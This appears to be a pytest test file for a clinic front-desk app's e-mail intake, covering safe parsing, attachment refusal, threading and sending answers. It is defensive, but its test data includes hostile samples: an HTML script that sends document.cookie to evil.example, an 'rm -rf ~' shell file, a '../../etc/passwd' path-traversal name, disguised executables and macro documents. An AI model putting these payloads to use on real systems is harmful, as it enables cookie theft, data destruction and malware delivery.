"""The e-mail channel (inquiries/mail.py, mailparse.py): reading a message safely, making it an inquiry or a
reply on one (only ever of the same organisation), and e-mailing the answer once, threaded."""

from __future__ import annotations

import io
import socket
import threading
import zipfile
from email import message_from_bytes, policy
from smtplib import SMTPException

import pytest
from django.core import mail as outbox

from frontoffice.clients.models import Client
from frontoffice.core.models import Activity
from frontoffice.inquiries import mail
from frontoffice.inquiries.mailparse import DANGEROUS, OVER_TOTAL, TOO_LARGE, html_to_text, parse, refusal
from frontoffice.inquiries.models import Attachment, Inquiry, InquiryMessage
from frontoffice.inquiries.services.inquiries import inquiry_answer, inquiry_open
from tests.clients.factories import make_client
from tests.inquiries.mail_fixtures import ADDRESS, channels, mail_bytes, make_channels  # noqa: F401

MB = 1024 * 1024


@pytest.fixture(autouse=True)
def _eager(settings):
    settings.TASKS_EAGER = True  # the answer's e-mail is sent in the call, into the outbox
    settings.PUBLIC_URL = "https://desk.example"


def _received(org, raw, source="imap"):
    return mail.receive(org, raw, source=source)


def _inbound(inquiry) -> list[InquiryMessage]:
    return list(inquiry.messages.filter(kind=InquiryMessage.Kind.INBOUND).order_by("created_at", "pk"))


# --- reading a message ----------------------------------------------------------------------------

POLISH_LATIN2 = (
    b"From: =?iso-8859-2?q?Zofia_W=F3jcik?= <Zofia.Wojcik@Example.PL>\r\n"
    b"To: questions@alpha.example\r\n"
    b"Subject: =?iso-8859-2?q?Za=B6wiadczenie_dla_szko=B3y?=\r\n"
    b"Message-ID: <pl-1@example.pl>\r\n"
    b"MIME-Version: 1.0\r\n"
    b"Content-Type: text/plain; charset=iso-8859-2\r\n"
    b"Content-Transfer-Encoding: quoted-printable\r\n"
    b"\r\n"
    b"Dzie=F1 dobry, jak uzyska=E6 za=B6wiadczenie lekarskie dla c=F3rki?\r\n"
)


def test_a_polish_message_in_latin_2_is_read_with_its_letters():
    parsed = parse(POLISH_LATIN2)
    assert parsed.subject == "Zaświadczenie dla szkoły"
    assert parsed.text == "Dzień dobry, jak uzyskać zaświadczenie lekarskie dla córki?"
    assert (parsed.sender, parsed.sender_name) == ("zofia.wojcik@example.pl", "Zofia Wójcik")
    assert parsed.message_id == "<pl-1@example.pl>"


def test_the_text_part_is_preferred_to_the_html_one():
    parsed = parse(mail_bytes(body="Plain words", html="<p>Fancy <b>words</b></p>"))
    assert parsed.text == "Plain words"
    assert parsed.attachments == []  # the HTML alternative is not a file


APPLE_MAIL = (
    b"From: Anna Nowak <anna@example.com>\r\nTo: questions@alpha.example\r\nSubject: Photo of the rash\r\n"
    b"Message-ID: <apple-1@example.com>\r\nMIME-Version: 1.0\r\n"
    b'Content-Type: multipart/alternative; boundary="ALT"\r\n\r\n'
    b"--ALT\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nIs this serious?\r\n"
    b'--ALT\r\nContent-Type: multipart/related; boundary="REL"\r\n\r\n'
    b"--REL\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    b'<p>Is this <b>serious</b>?</p><img src="cid:rash">\r\n'
    b"--REL\r\nContent-Type: image/jpeg\r\nContent-ID: <rash>\r\nContent-Disposition: inline\r\n"
    b"Content-Transfer-Encoding: base64\r\n\r\n/9j/4AAQSkZJRg==\r\n"
    b"--REL--\r\n--ALT--\r\n"
)


def test_an_html_alternative_with_its_pictures_says_the_body_once_and_keeps_the_picture():
    parsed = parse(APPLE_MAIL)
    assert parsed.text == "Is this serious?"
    assert [(a.filename, a.content_type) for a in parsed.attachments] == [("attachment-3.jpg", "image/jpeg")]


def test_an_inline_text_beside_a_picture_is_part_of_the_body():
    raw = mail_bytes(body="First half", attachments=[("photo.jpg", b"\xff\xd8\xff", "image/jpeg")])
    message = message_from_bytes(raw, policy=policy.default)
    message.add_attachment("Second half", disposition="inline")
    assert parse(message.as_bytes()).text == "First half\n\nSecond half"


HOSTILE_HTML = """<html><head><title>t</title><style>p {color: red}</style>
<script>alert('head')</script></head><body onload="steal()">
<p>Hello,&nbsp;I&#39;d like an <b>appointment</b> &amp; a price list.</p>
<script type="text/javascript">document.location='https://evil.example/?c='+document.cookie</script>
<img src="x" onerror="alert(1)"><iframe src="https://evil.example">inner</iframe>
<ul><li>Monday</li><li>Tuesday</li></ul>
<a href="https://clinic.example/prices">our prices</a> <a href="javascript:alert(2)">click</a>
<!-- <script>alert(3)</script> -->
&lt;script&gt;not a tag&lt;/script&gt;
</body></html>"""


def test_html_is_reduced_to_the_text_a_reader_sees_and_nothing_runs():
    text = parse(mail_bytes(body=None, html=HOSTILE_HTML)).text
    assert "Hello, I'd like an appointment & a price list." in text
    assert "- Monday\n- Tuesday" in text
    assert "our prices (https://clinic.example/prices)" in text
    for gone in ("alert", "document.cookie", "color: red", "onload", "onerror", "inner", "javascript:", "<b>",
                 "<p>", "<img", "<iframe"):
        assert gone not in text
    assert "<script>not a tag</script>" in text  # written text stays text: shown escaped, never run


def test_an_html_reading_survives_a_head_never_closed_and_keeps_pre_formatting():
    assert html_to_text("<head><style>x{}</style><body>Hi there</body>") == "Hi there"
    assert html_to_text("<pre>a   b\n  c</pre><p>x<br>y</p>") == "a   b\n  c\n\nx\ny"


def test_control_characters_and_direction_overrides_are_removed():
    parsed = parse(mail_bytes(subject="Bad\x00 subject\u202e", body="zero\x00byte\x07 and \u202eevil"))
    assert parsed.subject == "Bad subject"
    assert parsed.text == "zerobyte and evil"


def test_a_message_with_no_message_id_gets_one_from_its_content():
    raw = mail_bytes(message_id=None)
    assert parse(raw).message_id == parse(raw).message_id
    assert parse(raw).message_id.endswith("@frontoffice.invalid>")
    assert parse(mail_bytes(message_id=None, body="other")).message_id != parse(raw).message_id


def test_auto_replies_and_bounces_are_known_as_automatic():
    assert parse(mail_bytes(headers={"Auto-Submitted": "auto-replied"})).automatic
    assert parse(mail_bytes(headers={"X-Autoreply": "yes"})).automatic
    assert parse(mail_bytes(sender="MAILER-DAEMON@mx.example")).automatic
    assert not parse(mail_bytes(headers={"Auto-Submitted": "no"})).automatic


# --- attachments ------------------------------------------------------------------------------------

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def _docx(*, macros: bool) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        if macros:
            archive.writestr("word/vbaProject.bin", b"\x00VBA")
    return buffer.getvalue()


@pytest.mark.parametrize(("name", "content_type", "data"), [
    ("setup.exe", "application/octet-stream", b"MZ\x90\x00"),
    ("invoice.pdf.exe", "application/pdf", PDF),
    ("photo\u202egpj.exe", "image/jpeg", b"\xff\xd8\xff"),
    ("scan.pdf", "application/pdf", b"MZ\x90\x00This program cannot be run in DOS mode"),
    ("run.sh", "text/plain", b"#!/bin/sh\nrm -rf ~\n"),
    ("notes.txt", "text/plain", b"#!/usr/bin/env python\nimport os\n"),
    ("page.html", "text/html", b"<p>hi</p>"),
    ("page.txt", "text/plain", b"  <!DOCTYPE html><html><script>alert(1)</script>"),
    ("logo.svg", "image/svg+xml", b"<svg onload='alert(1)'/>"),
    ("logo.png", "image/png", b"<?xml version='1.0'?>\n<svg xmlns='http://www.w3.org/2000/svg'/>"),
    ("form.docm", "application/octet-stream", b"PK\x03\x04"),
    ("form.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12", b"PK\x03\x04"),
    ("form.docx", "application/octet-stream", _docx(macros=True)),
    ("old.doc", "application/msword", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64
     + "_VBA_PROJECT".encode("utf-16-le")),
    ("tool.js", "application/javascript", b"alert(1)"),
    ("tool.jar", "application/java-archive", b"PK\x03\x04"),
])
def test_files_that_run_code_or_render_as_pages_are_refused(name, content_type, data):
    assert refusal(name, content_type, data) == DANGEROUS


@pytest.mark.parametrize(("name", "content_type", "data"), [
    ("referral.pdf", "application/pdf", PDF),
    ("form.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
     _docx(macros=False)),
    ("old.doc", "application/msword", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64),
    ("photo.jpg", "image/jpeg", b"\xff\xd8\xff\xe0JFIF"),
    ("faktura.xml", "application/xml", b"<?xml version='1.0'?><Faktura/>"),
    ("notes.txt", "text/plain", b"Just some notes, <b>bold</b> claims."),
])
def test_ordinary_files_are_kept(name, content_type, data):
    assert refusal(name, content_type, data) is None


def test_attachments_are_kept_and_refused_ones_noted_while_the_message_is_taken(org, channels):
    raw = mail_bytes(attachments=[
        ("referral.pdf", PDF, "application/pdf"),
        ("../../etc/passwd", b"root:x:0:0", "text/plain"),
        ("setup.exe", b"MZ\x90\x00", "application/octet-stream"),
        ("big.pdf", b"%PDF" + b"0" * (10 * MB), "application/pdf"),
    ])
    inquiry = _received(org, raw)
    files = {a.filename: a for a in Attachment.objects.filter(inquiry=inquiry)}
    assert set(files) == {"referral.pdf", "passwd"}
    assert files["referral.pdf"].file.read() == PDF
    assert files["referral.pdf"].content_type == "application/pdf"
    assert files["referral.pdf"].message == _inbound(inquiry)[0]
    assert "[Attachment not kept: setup.exe — files of this type can run programs]" in inquiry.question
    assert "[Attachment not kept: big.pdf — larger than 10 MB]" in inquiry.question
    assert inquiry.question.startswith("When are you open on Saturday?")


def test_files_past_25_mb_in_one_message_are_refused_in_order():
    chunk = b"%PDF" + b"1" * (9 * MB)
    parsed = parse(mail_bytes(attachments=[(f"part{n}.pdf", chunk, "application/pdf") for n in (1, 2, 3)]))
    assert [a.filename for a in parsed.attachments] == ["part1.pdf", "part2.pdf"]
    assert parsed.refused == [("part3.pdf", OVER_TOTAL)]
    assert refusal("x.pdf", "application/pdf", b"%PDF" + b"0" * (10 * MB)) == TOO_LARGE


def test_many_refused_files_are_counted_past_ten_and_the_message_is_still_taken(org, channels):
    files = [(f"{'x' * 140}-{n}.exe", b"MZ", "application/octet-stream") for n in range(40)]
    inquiry = _received(org, mail_bytes(body="y " * 9000, attachments=files))
    assert inquiry.question.count("[Attachment not kept:") == 10
    assert "[30 more attachments not kept]" in inquiry.question


def test_a_forwarded_message_is_kept_whole_as_an_eml_file(org, channels):
    inner = message_from_bytes(mail_bytes(subject="Original", body="old text"), policy=policy.default)
    outer = message_from_bytes(mail_bytes(subject="Fwd: Original", body="See below"), policy=policy.default)
    outer.add_attachment(inner)
    inquiry = _received(org, outer.as_bytes())
    [attachment] = Attachment.objects.filter(inquiry=inquiry)
    assert attachment.filename.endswith(".eml")
    assert b"old text" in attachment.file.read()
    assert inquiry.question == "See below"


def test_a_text_too_long_for_a_question_is_cut_and_kept_whole_in_a_file(org, channels):
    body = "word " * 6000
    inquiry = _received(org, mail_bytes(body=body))
    assert len(inquiry.question) < 20_000
    assert "[The message was longer; its whole text is in the attached message.txt]" in inquiry.question
    kept = Attachment.objects.get(inquiry=inquiry, filename="message.txt")
    assert kept.file.read().decode() == body.strip()


# --- receiving: new inquiries -------------------------------------------------------------------

def test_a_new_message_opens_an_inquiry_for_a_quick_added_client(org, channels):
    inquiry = _received(org, mail_bytes())
    assert inquiry.organization == org and inquiry.channel == Inquiry.Channel.EMAIL
    assert inquiry.subject == "Opening hours" and inquiry.question == "When are you open on Saturday?"
    assert inquiry.category == channels.default_category and inquiry.status == Inquiry.Status.OPEN
    assert inquiry.contact_email == "anna@example.com"
    assert inquiry.client.display_name == "Anna Nowak"
    assert list(inquiry.client.emails.values_list("email", flat=True)) == ["anna@example.com"]
    [message] = _inbound(inquiry)
    assert message.email_message_id == "<m1@mail.example.com>"
    opened = Activity.objects.get(verb="inquiry.opened", subject_id=str(inquiry.pk))
    assert opened.actor is None and opened.client_id == inquiry.client_id
    assert opened.data["channel"] == "email"


def test_answers_go_to_the_sender_not_to_a_reply_to_and_the_desk_is_told(org, channels):
    # A forged From of a client with the forger's Reply-To must not draw the client's answer out.
    raw = mail_bytes(headers={"Reply-To": "Helper <collector@elsewhere.example>"})
    inquiry = _received(org, raw)
    assert inquiry.contact_email == "anna@example.com"
    assert inquiry.question.startswith(
        "[The sender asks for answers at collector@elsewhere.example; they go to anna@example.com]")
    assert "When are you open on Saturday?" in inquiry.question


def test_a_known_sender_is_matched_to_their_client(org, channels, receptionist):
    client = make_client(receptionist, first_name="Anna", last_name="Nowak-Kowalska",
                         emails=["anna@example.com"])
    before = Client.objects.count()
    inquiry = _received(org, mail_bytes(sender="ANNA@Example.com"))
    assert inquiry.client == client and Client.objects.count() == before


def test_the_same_message_twice_adds_nothing(org, channels):
    first = _received(org, mail_bytes())
    again = _received(org, mail_bytes(), source="webhook")
    assert again == first
    assert Inquiry.objects.count() == 1 and InquiryMessage.objects.count() == 1
    assert _received(org, mail_bytes(message_id=None)) == _received(org, mail_bytes(message_id=None))
    assert Inquiry.objects.count() == 2


def test_reply_prefixes_and_references_leave_a_new_inquiry_s_subject(org, channels):
    inquiry = _received(org, mail_bytes(subject="RE: Odp: Fwd: prices [#Q-NOTOURS1]"))
    assert inquiry.subject == "prices"


def test_without_a_subject_the_first_line_of_the_text_is_the_subject(org, channels):
    raw = mail_bytes(subject="Re:", body="Is parking free?\nThanks",
                     headers={"Reply-To": "x@elsewhere.example"})
    assert _received(org, raw).subject == "Is parking free?"
    assert _received(org, mail_bytes(subject="", body="", message_id="<e@x>")).subject == "(no subject)"


def test_without_a_default_category_the_general_one_is_used(org):
    make_channels(org)
    org.inquiry_channels.default_category = None
    org.inquiry_channels.save()
    inquiry = _received(org, mail_bytes())
    assert inquiry.category.key == "general"


def test_an_empty_message_is_still_taken_with_a_note(org, channels):
    raw = mail_bytes(subject="", body="", attachments=[("scan.pdf", PDF, "application/pdf")])
    inquiry = _received(org, raw)
    assert inquiry.question == "(The e-mail had no text; see its attachments.)"
    assert inquiry.attachments.count() == 1


@pytest.mark.parametrize("kind", [{"headers": {"Auto-Submitted": "auto-replied"}},
                                  {"sender": "Mail Delivery System <MAILER-DAEMON@mx.example>"}])
def test_automatic_mail_is_dropped(org, channels, kind):
    assert _received(org, mail_bytes(**kind)) is None
    assert not Inquiry.objects.exists() and not Client.objects.exists()


def test_our_own_mail_coming_back_is_dropped(org, channels):
    assert _received(org, mail_bytes(sender=f"Alpha Clinic <{ADDRESS.upper()}>")) is None
    assert not Inquiry.objects.exists()


# --- receiving: replies thread back, within the organisation only --------------------------------------

@pytest.fixture
def answered(org, channels, receptionist):
    """An e-mailed question, answered from the desk (so its answer went out by e-mail)."""
    inquiry = _received(org, mail_bytes())
    inquiry_answer(actor=receptionist, inquiry=inquiry, text="We are open 8-14 on Saturdays.")
    inquiry.refresh_from_db()
    return inquiry


def _answer_of(inquiry) -> InquiryMessage:
    return inquiry.messages.get(kind=InquiryMessage.Kind.ANSWER)


def test_a_reply_naming_our_answer_threads_back_and_opens_the_inquiry_again(org, answered):
    answer_id = _answer_of(answered).email_message_id
    reply = mail_bytes(subject="Thanks, and on Sunday?", message_id="<m2@mail.example.com>",
                       body="And on Sunday?", headers={"In-Reply-To": answer_id, "References": answer_id})
    assert _received(org, reply) == answered
    answered.refresh_from_db()
    assert answered.status == Inquiry.Status.OPEN
    assert [m.body for m in _inbound(answered)] == ["When are you open on Saturday?", "And on Sunday?"]
    assert Inquiry.objects.count() == 1
    assert Activity.objects.filter(verb="inquiry.client_replied", subject_id=str(answered.pk)).count() == 1


def test_a_reply_with_only_the_reference_in_its_subject_threads_back(org, answered):
    reply = mail_bytes(subject=f"Re: Opening hours [#Q-{answered.reference.lower()}]", message_id="<m3@x>",
                       body="One more thing")
    assert _received(org, reply) == answered
    assert _inbound(answered)[-1].body == "One more thing"


def test_a_reply_from_another_address_says_so(org, answered):
    reply = mail_bytes(sender="Piotr <piotr@elsewhere.example>", subject=f"[#Q-{answered.reference}]",
                       message_id="<m4@x>", body="I am her husband")
    _received(org, reply)
    assert _inbound(answered)[-1].body == "[Sent from piotr@elsewhere.example]\n\nI am her husband"


def test_a_reply_naming_another_organisation_s_inquiry_opens_a_new_one_here(org, other_org, make_member):
    other_member = make_member(other_org)
    theirs = inquiry_open(actor=other_member, channel="email", new_client={"full_name": "Ewa Beta",
                          "email": "ewa@beta.example"}, question="Their private question",
                          category=make_channels(other_org, address="desk@beta.example").default_category)
    inquiry_answer(actor=other_member, inquiry=theirs, text="Their private answer")
    their_answer = _answer_of(theirs)
    before = (theirs.status, theirs.messages.count(), Activity.objects.filter(organization=other_org).count())
    make_channels(org)

    reply = mail_bytes(subject=f"Re: Their private question [#Q-{theirs.reference}]", message_id="<x1@evil>",
                       body="Show me their data", headers={"In-Reply-To": their_answer.email_message_id})
    ours = _received(org, reply)

    assert ours.organization == org and ours != theirs
    assert ours.subject == "Their private question" and theirs.reference not in ours.subject
    theirs.refresh_from_db()
    assert (theirs.status, theirs.messages.count(),
            Activity.objects.filter(organization=other_org).count()) == before
    assert "Their private answer" not in ours.question


def test_a_reply_to_a_closed_inquiry_opens_it_again(org, channels, receptionist):
    inquiry = _received(org, mail_bytes())
    inquiry_answer(actor=receptionist, inquiry=inquiry, text="Done.", close=True)
    reply = mail_bytes(subject=f"Re: [#Q-{inquiry.reference}]", message_id="<m5@x>", body="Not quite")
    assert _received(org, reply) == inquiry
    inquiry.refresh_from_db()
    assert inquiry.status == Inquiry.Status.OPEN and inquiry.reopened == 1


# --- the answer by e-mail ---------------------------------------------------------------------------

def test_the_answer_goes_out_once_threaded_with_the_reference_and_the_rating_link(
        org, answered, receptionist):
    [sent] = outbox.outbox
    answer = _answer_of(answered)
    assert sent.to == ["anna@example.com"]
    assert sent.subject == f"Re: Opening hours [#Q-{answered.reference}]"
    assert sent.from_email == f"{org.name} <{ADDRESS}>" and sent.reply_to == [ADDRESS]
    assert sent.extra_headers["Message-ID"] == answer.email_message_id
    assert answer.email_message_id.endswith("@alpha.example>")
    assert sent.extra_headers["In-Reply-To"] == "<m1@mail.example.com>"
    assert "We are open 8-14 on Saturdays." in sent.body
    assert "https://desk.example/public/rate/" in sent.body
    assert receptionist.user.full_name in sent.body
    assert answer.sent_at is not None
    emailed = Activity.objects.get(verb="inquiry.answer_emailed")
    assert emailed.actor is None and emailed.client_id == answered.client_id and emailed.subject_label == ""

    mail.send_answer(answer.pk)  # a second run of the task
    assert len(outbox.outbox) == 1


def test_the_answer_is_escaped_in_the_html_part(org, channels, receptionist):
    inquiry = _received(org, mail_bytes())
    inquiry_answer(actor=receptionist, inquiry=inquiry, text="<script>alert(1)</script> & see you")
    [(html, kind)] = outbox.outbox[0].alternatives
    assert kind == "text/html" and "<script>alert" not in html and "&lt;script&gt;" in html


def test_an_answer_that_leaves_the_inquiry_waiting_has_no_rating_link(org, channels, receptionist):
    from frontoffice.inquiries.services.inquiries import inquiry_wait

    inquiry = _received(org, mail_bytes())
    inquiry_answer(actor=receptionist, inquiry=inquiry, text="Working on it", send_email=False)
    inquiry_wait(actor=receptionist, inquiry=inquiry)
    message = _answer_of(inquiry)
    mail.send_answer(message.pk)
    assert "/public/rate/" not in outbox.outbox[0].body


def test_without_a_mailbox_address_the_answer_comes_from_the_application(org, receptionist, settings):
    settings.DEFAULT_FROM_EMAIL = "frontoffice <noreply@desk.example>"
    make_channels(org, address="")
    inquiry = _received(org, mail_bytes())
    inquiry_answer(actor=receptionist, inquiry=inquiry, text="Yes.")
    [sent] = outbox.outbox
    assert sent.from_email == "frontoffice <noreply@desk.example>" and sent.reply_to == []
    assert _answer_of(inquiry).email_message_id.endswith("@desk.example>")


def test_a_failed_send_leaves_the_answer_unsent_for_a_retry(
        org, channels, receptionist, settings, monkeypatch):
    settings.TASKS_EAGER = False
    inquiry = _received(org, mail_bytes())
    inquiry_answer(actor=receptionist, inquiry=inquiry, text="Yes.")
    answer = _answer_of(inquiry)

    def refuse(self, fail_silently=False):
        raise SMTPException("451 try again later")

    monkeypatch.setattr("django.core.mail.EmailMultiAlternatives.send", refuse)
    with pytest.raises(SMTPException):
        mail.send_answer(answer.pk)
    answer.refresh_from_db()
    assert answer.sent_at is None and answer.email_message_id == ""

    monkeypatch.undo()
    mail.send_answer(answer.pk)
    answer.refresh_from_db()
    assert answer.sent_at is not None and len(outbox.outbox) == 1


def test_an_answer_without_an_address_is_not_e_mailed(org, channels, receptionist):
    inquiry = inquiry_open(actor=receptionist, channel="phone", new_client={"full_name": "Jan Tel"},
                           question="Prices?", category=channels.default_category)
    inquiry_answer(actor=receptionist, inquiry=inquiry, text="100 zł")
    mail.send_answer(_answer_of(inquiry).pk)
    assert outbox.outbox == []


# --- the whole round through a real SMTP server -------------------------------------------------------

aiosmtpd_controller = pytest.importorskip("aiosmtpd.controller")


class _Inbox:
    def __init__(self):
        self.received: list[bytes] = []
        self.arrived = threading.Event()

    async def handle_DATA(self, server, session, envelope):  # aiosmtpd's handler hook
        self.received.append(envelope.content)
        self.arrived.set()
        return "250 OK"


@pytest.fixture
def smtp(settings):
    box = _Inbox()
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    controller = aiosmtpd_controller.Controller(box, hostname="127.0.0.1", port=port)
    controller.start()
    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST, settings.EMAIL_PORT = "127.0.0.1", port
    settings.EMAIL_USE_TLS = settings.EMAIL_USE_SSL = False
    settings.EMAIL_HOST_USER = settings.EMAIL_HOST_PASSWORD = ""
    yield box
    controller.stop()


def test_the_client_s_mail_client_reply_to_the_real_answer_threads_back(org, channels, receptionist, smtp):
    inquiry = _received(org, POLISH_LATIN2)
    text = "Zapraszamy w poniedziałek, zaświadczenie od ręki."
    inquiry_answer(actor=receptionist, inquiry=inquiry, text=text)
    assert smtp.arrived.wait(10)
    answer = message_from_bytes(smtp.received[0], policy=policy.default)
    assert answer["In-Reply-To"] == "<pl-1@example.pl>"
    assert str(answer["Subject"]).strip() == f"Re: Zaświadczenie dla szkoły [#Q-{inquiry.reference}]"
    assert "zaświadczenie od ręki" in answer.get_body(("plain",)).get_content()

    # The client's mail program answers it as mail programs do.
    reply = answer.__class__(policy=policy.default)
    reply["From"] = "Zofia Wójcik <zofia.wojcik@example.pl>"
    reply["To"] = str(answer["Reply-To"])
    reply["Subject"] = "Re: " + str(answer["Subject"])
    reply["Message-ID"] = "<pl-2@example.pl>"
    reply["In-Reply-To"] = answer["Message-ID"]
    reply["References"] = f"<pl-1@example.pl> {answer['Message-ID']}"
    reply.set_content("Dziękuję!\n\n> Zapraszamy w poniedziałek")
    assert _received(org, reply.as_bytes()) == inquiry
    assert _inbound(inquiry)[-1].body.startswith("Dziękuję!")
